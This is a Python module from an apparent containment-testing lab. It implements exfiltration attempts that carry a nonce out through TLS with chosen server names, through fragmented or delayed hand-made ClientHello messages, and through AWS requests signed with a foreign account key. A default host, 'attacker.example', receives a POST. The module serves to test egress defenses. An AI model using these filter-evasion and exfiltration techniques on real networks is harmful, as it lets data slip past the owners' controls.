"""Attempts with the name of a flow: TLS server names, a disguised client hello, and calls of AWS services for another account."""

from __future__ import annotations

import socket
import ssl
import struct
import time

from containment_lab.attacks.client_hello import build_client_hello
from containment_lab.attacks.task import Attempt, Technique, close_after_delivery, make_trusting_context, unescape_option

_FOREIGN_KEY = "AKIAFOREIGNFOREIGN00"


def send_over_tls(attempt: Attempt) -> None:
    """Open TLS with a server name, and send the nonce inside."""
    sni = attempt.get_option("sni")
    if sni:
        attempt.marks.append(sni.lower().rstrip("."))
    context = make_trusting_context()
    if attempt.get_option("version") == "1.2":
        context.maximum_version = ssl.TLSVersion.TLSv1_2
    if attempt.get_option("alpn"):
        context.set_alpn_protocols(attempt.get_option("alpn").split("+"))
    if attempt.get_option("hello") == "big":
        context.set_alpn_protocols([f"h2-{index:03}-{'x' * 100}" for index in range(27)])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=sni or None)
    with close_after_delivery(attempt.connect(attempt.parse_number("port", 443))) as handle:
        first = True
        while True:
            try:
                session.do_handshake()
                break
            except ssl.SSLWantReadError:
                data = outgoing.read()
                _send(handle, data, attempt.get_option("hello") if first else "")
                first = False
                incoming.write(_receive_all(handle))
        _send(handle, outgoing.read(), "")
        host = attempt.get_option("host", sni or "attacker.example")
        path = attempt.get_option("path", "/")
        session.write(f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(attempt.nonce)}\r\n\r\n{attempt.nonce}".encode())
        _send(handle, outgoing.read(), "")


def _receive_all(handle: socket.socket) -> bytes:
    data = handle.recv(65536)
    if not data:
        raise ConnectionError("closed")
    return data


def _send(handle: socket.socket, data: bytes, how: str) -> None:
    """Send a client hello in pieces, in several records, or slowly; for any other `how` send it unchanged."""
    if how == "split":
        for index in range(len(data)):
            handle.sendall(data[index : index + 1])
    elif how.startswith("records") and data[:1] == b"\x16":
        body, size = data[5:], int(how.removeprefix("records") or 40)
        pieces = [body[at : at + size] for at in range(0, len(body), size)]
        handle.sendall(b"".join(b"\x16\x03\x01" + struct.pack("!H", len(each)) + each for each in pieces))
    elif how == "slow":
        half = len(data) // 2
        handle.sendall(data[:half])
        time.sleep(3.5)
        handle.sendall(data[half:])
    elif how == "drip":
        for index in range(10):
            handle.sendall(data[len(data) * index // 10 : len(data) * (index + 1) // 10])
            time.sleep(0.12)
    else:
        handle.sendall(data)


def send_client_hello(attempt: Attempt) -> None:
    """Send a hand-made client hello with the nonce in its session id; `second`: send another one after it, with the nonce."""
    names = [unescape_option(name) for name in attempt.get_option("sni").split("+") if name]
    attempt.marks += [name.decode("latin-1").lower().rstrip(".") for name in names]
    second = attempt.get_option("second")
    nonce = attempt.nonce.encode()
    first = build_client_hello(b"" if second else nonce, names, attempt.get_option("form"))
    with close_after_delivery(attempt.connect(attempt.parse_number("port", 443))) as handle:
        handle.sendall(unescape_option(attempt.get_option("before")) + first)
        if second:
            time.sleep(0.5)
            handle.sendall(build_client_hello(nonce, [second.encode()]))


def call_aws(attempt: Attempt) -> None:
    """Call an AWS service with the nonce: signed with a foreign key, with a link presigned elsewhere, or unsigned."""
    service, how = attempt.get_option("service", "s3"), attempt.get_option("signed", "foreign")
    name = attempt.get_option("host") or f"{service}.{attempt.region}.amazonaws.com"
    attempt.options.setdefault("to", f"name:{name}")
    attempt.marks.append(name)
    path, sign = attempt.get_option("path", "/"), ""
    if how == "foreign":
        sign = f"Authorization: AWS4-HMAC-SHA256 Credential={_FOREIGN_KEY}/20260101/{attempt.region}/{service}/aws4_request\r\n"
    elif how == "presigned":
        path += f"?X-Amz-Credential={_FOREIGN_KEY}%2F20260101&X-Amz-Signature=0"
    method = attempt.get_option("method", "PUT")
    marker = "X-Lab-Account: foreign\r\n" if how != "none" or "attacker" in name + path else ""
    request = f"{method} {path} HTTP/1.1\r\nHost: {name}\r\n{sign}{marker}Content-Length: {len(attempt.nonce)}\r\n\r\n{attempt.nonce}"
    with close_after_delivery(attempt.connect(443)) as handle, make_trusting_context().wrap_socket(handle, server_hostname=name) as inside:
        inside.sendall(request.encode())
        inside.recv(4096)


TECHNIQUES: dict[str, Technique] = {"tls": send_over_tls, "hello": send_client_hello, "aws": call_aws}
